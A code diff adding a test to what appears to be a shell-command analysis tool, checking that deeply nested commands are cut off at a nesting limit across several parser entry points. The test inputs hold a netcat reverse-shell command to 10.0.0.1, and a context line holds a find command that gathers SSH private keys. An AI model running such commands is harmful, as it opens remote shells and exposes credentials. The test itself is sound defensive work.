@@ -90,6 +90,26 @@ def test_hostile_input_is_bounded():
     reader.read(nested)  # must return, not recurse without bound
 
 
+def test_nesting_has_a_bound_of_its_own_at_every_entry_point():
+    """The walk stops at MAX_NESTING itself, not at Python's recursion limit: compiled, it would
+    have none (vigiles/_compiled.py). What was read is kept, and the rest is an unreadable command."""
+    import sys
+
+    from vigiles.analysis.shell import MAX_NESTING, UNREADABLE
+    deep = "( " * (MAX_NESTING + 50) + "nc -e /bin/sh 10.0.0.1 4444" + " )" * (MAX_NESTING + 50)
+    readable = "( " * 250 + "nc -e /bin/sh 10.0.0.1 4444" + " )" * 250
+    limit = sys.getrecursionlimit()
+    sys.setrecursionlimit(100_000)
+    try:
+        assert [c.name for c in reader.read("id; " + deep)] == ["id", UNREADABLE]
+        assert reader.read(readable)[-1].name == "nc"
+    finally:
+        sys.setrecursionlimit(limit)
+    assert [c.name for c in reader.read_argv(["bash", "-c", deep])] == ["bash", UNREADABLE]
+    assert reader.read_cron("* * * * * " + deep)[-1].name == UNREADABLE
+    assert reader.read_code("python", f"import os; os.system({deep!r})")[-1].name == UNREADABLE
+
+
 def test_words_after_a_mid_command_redirect_stay_with_the_command():
     find_cmd = find("find / -name id_rsa 2>/dev/null -exec rsync -R {} /tmp/x \\;", "find")
     assert find_cmd.args[-3:] == ["{}", "/tmp/x", ";"] and "2>/dev/null" in find_cmd.redirects
